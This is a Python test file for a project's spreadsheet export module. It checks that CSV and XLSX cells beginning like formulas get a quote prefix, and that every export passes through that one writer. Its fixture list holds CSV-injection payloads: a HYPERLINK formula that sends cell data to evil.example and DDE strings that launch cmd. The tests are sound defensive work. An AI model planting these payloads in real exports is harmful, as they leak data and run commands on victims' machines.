"""The one CSV/XLSX writer neutralises spreadsheet formulas (OWASP's CSV injection rule), and
every export in the project goes through it."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from reintegra import tables

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")',
    "+48 600 100 200",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_a_csv_cell_that_starts_like_a_formula_gets_a_leading_quote() -> None:
    data = tables.as_csv(["Nazwisko", "=header"], [HOSTILE, ["Kowalska", "Jan"]])

    header, hostile, plain = csv_cells(data)
    assert header == ["Nazwisko", "'=header"]
    assert hostile == ["'" + value for value in HOSTILE]
    assert plain == ["Kowalska", "Jan"]


def test_every_csv_cell_is_quoted_so_no_separator_splits_it_in_another_locale() -> None:
    data = tables.as_csv(["a"], [["Kowalska,=1+1"]]).decode("utf-8-sig")

    assert data.splitlines()[1] == '"Kowalska,=1+1"'


def test_no_xlsx_cell_is_a_formula_and_hostile_text_comes_back_as_written() -> None:
    data = tables.as_xlsx("Lista", ["Nazwisko", "=header"], [HOSTILE, ["Kowalska", "Jan"]])

    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.data_type for cell in cells] == ["s"] * len(cells)
    # XML reads a carriage return back as a line feed.
    assert [cell.value for cell in cells[2:8]] == [value.replace("\r", "\n") for value in HOSTILE]
    assert all(cell.quotePrefix for cell in cells[2:8])
    assert not cells[-1].quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


# Every export goes through the one writer --------------------------------------------------

WRITERS = {"csv.writer", "csv.DictWriter", "openpyxl.Workbook", "openpyxl.workbook.Workbook"}
SPREADSHEET_TYPES = ("text/csv", "spreadsheetml", "ms-excel")


def modules() -> Iterator[tuple[str, ast.Module]]:
    for path in sorted((ROOT / "reintegra").rglob("*.py")):
        if "migrations" in path.parts:
            continue
        name = ".".join(path.relative_to(ROOT).with_suffix("").parts).removesuffix(".__init__")
        yield name, ast.parse(path.read_text(encoding="utf-8"))


def writers_used(tree: ast.Module) -> set[str]:
    """The spreadsheet writers a module names: csv.writer, openpyxl's Workbook, xlsxwriter…"""
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            found |= {f"{node.module}.{alias.name}" for alias in node.names} & WRITERS
            if node.module.split(".")[0] in {"xlsxwriter", "xlwt", "pyexcel", "tablib"}:
                found.add(node.module)
        elif isinstance(node, ast.Import):
            found |= {
                alias.name
                for alias in node.names
                if alias.name.split(".")[0] in {"xlsxwriter", "xlwt", "tablib"}
            }
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            found |= {f"{node.value.id}.{node.attr}"} & WRITERS
    return found


def imported_modules(tree: ast.Module) -> set[str]:
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            found.add(node.module)
            found |= {f"{node.module}.{alias.name}" for alias in node.names}
        elif isinstance(node, ast.Import):
            found |= {alias.name for alias in node.names}
    return found


def makes_spreadsheets(tree: ast.Module) -> bool:
    return any(
        isinstance(node, ast.Constant)
        and isinstance(node.value, str)
        and any(t in node.value for t in SPREADSHEET_TYPES)
        for node in ast.walk(tree)
    )


def test_no_module_but_tables_writes_csv_or_xlsx() -> None:
    offenders = {
        name: sorted(used)
        for name, tree in modules()
        if name != "reintegra.tables" and (used := writers_used(tree))
    }

    assert offenders == {}


def test_every_module_that_answers_with_a_spreadsheet_gets_it_from_tables() -> None:
    """A view that sends CSV/XLSX imports ``reintegra.tables`` itself or through one module (its
    app's ``export``) that does."""
    imports = {name: imported_modules(tree) for name, tree in modules()}
    uses_tables = {name for name, found in imports.items() if "reintegra.tables" in found}

    senders = [name for name, tree in modules() if makes_spreadsheets(tree)]
    offenders = [name for name in senders if name not in uses_tables and not imports[name] & uses_tables]

    assert senders, "no module answers with a spreadsheet: the check looks in the wrong place"
    assert offenders == []


@pytest.mark.parametrize(
    "source",
    [
        "import csv\nw = csv.writer(f)",
        "from csv import DictWriter",
        "from openpyxl import Workbook",
        "import xlsxwriter",
    ],
)
def test_a_second_writer_would_be_reported(source: str) -> None:
    assert writers_used(ast.parse(source))


def test_reading_a_spreadsheet_is_not_writing_one() -> None:
    assert not writers_used(ast.parse("import csv\nfrom openpyxl import load_workbook\ncsv.reader(f)"))


# Reports: several tables of counts ---------------------------------------------------------

REPORT = [
    tables.Sheet("Wskaźniki: produkty", ["Kod", "Wskaźnik", "Kobiety"], [["EECO01", "=Ogółem", 12]]),
    tables.Sheet(
        "Wskaźniki: produkty", ["Kod", "Wskaźnik", "Kobiety"], [["EECO02", "Bezrobotni", None]], ["Uwaga"]
    ),
]


def test_a_reports_workbook_has_a_sheet_per_table_with_counts_as_numbers() -> None:
    workbook = load_workbook(io.BytesIO(tables.as_xlsx_sheets(REPORT)))

    first, second = workbook.worksheets
    assert [first.title, second.title] == ["Wskaźniki produkty", "Wskaźniki produkty (2)"]
    assert [cell.value for cell in first[2]] == ["EECO01", "=Ogółem", 12]
    assert first["B2"].data_type == "s"
    assert first["B2"].quotePrefix
    assert first["C2"].data_type == "n"
    assert [[cell.value for cell in row] for row in second.iter_rows(min_row=2)] == [
        ["EECO02", "Bezrobotni", None],
        ["Uwaga", None, None],
    ]


def test_a_reports_csv_has_a_section_per_table_and_neutralises_only_text() -> None:
    sections = csv_cells(tables.as_csv_sections(REPORT))

    assert sections == [
        ["Wskaźniki: produkty"],
        ["Kod", "Wskaźnik", "Kobiety"],
        ["EECO01", "'=Ogółem", "12"],
        [],
        ["Wskaźniki: produkty"],
        ["Kod", "Wskaźnik", "Kobiety"],
        ["EECO02", "Bezrobotni", ""],
        ["Uwaga"],
    ]


def test_sheet_names_are_short_unique_and_without_the_characters_excel_refuses() -> None:
    names = tables.sheet_names(["a" * 40, "a" * 40, "Okres 1/2026 [I]", ""])

    assert names == ["a" * 31, "a" * 27 + " (2)", "Okres 1 2026 I", "-"]
